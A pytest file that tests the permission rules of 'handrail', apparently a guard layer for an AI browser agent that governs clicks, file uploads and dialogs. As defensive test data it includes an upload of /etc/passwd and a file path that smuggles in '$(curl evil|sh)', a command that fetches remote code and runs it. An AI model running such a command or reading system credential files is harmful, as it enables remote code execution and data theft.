"""The rules, over plain facts."""

import ast
import inspect
import shlex
from dataclasses import replace
from pathlib import Path

import pytest

from handrail.messages import rule_sentences
from handrail.policy import Allow, CallRequest, Deny, DialogFacts, Facts, FileFacts, Permissions, decide
from handrail.policy.decide import RULES, Rule

CLICK = CallRequest("model", "ask", "click", "change", "click", offered_in_ask=False)
NOWHERE = Facts("https://shop.example", "n1")


def test_act_mode_allows_a_click_where_the_user_went():
    went = Permissions.of(["https://shop.example"])
    assert decide(replace(CLICK, mode="act", permissions=went), NOWHERE) == Allow("no_rule_objects")


@pytest.mark.parametrize("caller", ["user", "model"])
def test_a_file_outside_the_allowed_folders_is_not_sent(tmp_path: Path, caller):
    facts = replace(NOWHERE, file=FileFacts(Path("/etc/passwd"), (tmp_path,)))
    decision = decide(CallRequest(caller, "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
    assert isinstance(decision, Deny)
    assert decision.remedy == f"--upload-dir {Path('/etc')}"


def test_a_file_in_an_allowed_folder_is_sent_for_the_user(tmp_path: Path):
    facts = replace(NOWHERE, file=FileFacts(tmp_path / "cv.pdf", (tmp_path,)))
    decision = decide(CallRequest("user", "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
    assert isinstance(decision, Allow)


def test_a_folder_whose_name_begins_alike_is_another_folder(tmp_path: Path):
    facts = replace(NOWHERE, file=FileFacts(tmp_path.with_name(tmp_path.name + "-private") / "x", (tmp_path,)))
    decision = decide(CallRequest("model", "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
    assert isinstance(decision, Deny)


def test_in_ask_mode_the_rules_that_follow_are_asked_too(tmp_path: Path):
    facts = replace(NOWHERE, file=FileFacts(Path("/etc/passwd"), (tmp_path,)))
    sly = CallRequest("model", "ask", "sly", "read", "upload", offered_in_ask=True)
    assert isinstance(decide(sly, facts), Deny)


@pytest.mark.parametrize(
    ("kind", "accepts", "allowed"),
    [
        ("alert", True, True),
        ("alert", False, True),
        ("confirm", False, True),
        ("prompt", False, True),
        ("confirm", True, False),
        ("prompt", True, False),
        ("beforeunload", True, False),
        ("beforeunload", False, False),
    ],
)
def test_in_ask_mode_a_dialog_may_be_put_away_but_not_agreed_to(kind, accepts, allowed):
    call = replace(CLICK, tool="dialog", capability="dialog")
    decision = decide(call, replace(NOWHERE, dialog=DialogFacts(kind, accepts)))
    assert isinstance(decision, Allow) is allowed


def test_a_remedy_is_one_word_of_a_shell_whatever_path_a_model_composed(tmp_path: Path):
    facts = replace(NOWHERE, file=FileFacts(Path("/tmp/$(curl evil|sh); echo /x"), (tmp_path,)))
    decision = decide(CallRequest("model", "act", "upload_file", "change", "upload", offered_in_ask=False), facts)
    assert isinstance(decision, Deny)
    assert shlex.split(decision.remedy) == ["--upload-dir", str(Path("/tmp/$(curl evil|sh); echo"))]


@pytest.mark.parametrize("rule", RULES, ids=lambda rule: rule.__name__)
def test_a_rule_answers_by_its_own_name_by_which_a_person_finds_what_it_says(rule: Rule) -> None:
    code = ast.parse(inspect.getsource(rule))
    names = [one.args[0] for one in ast.walk(code) if isinstance(one, ast.Call) and _makes_decision(one)]
    names += [
        one.value for one in ast.walk(code) if isinstance(one, ast.Assign) and ast.unparse(one.targets[0]) == "rule"
    ]
    assert {one.value for one in names if isinstance(one, ast.Constant)} <= {rule.__name__}
    assert rule.__name__ in rule_sentences()


def _makes_decision(call: ast.Call) -> bool:
    return ast.unparse(call.func) in ("Allow", "Ask", "Deny", "ask_for_grant")
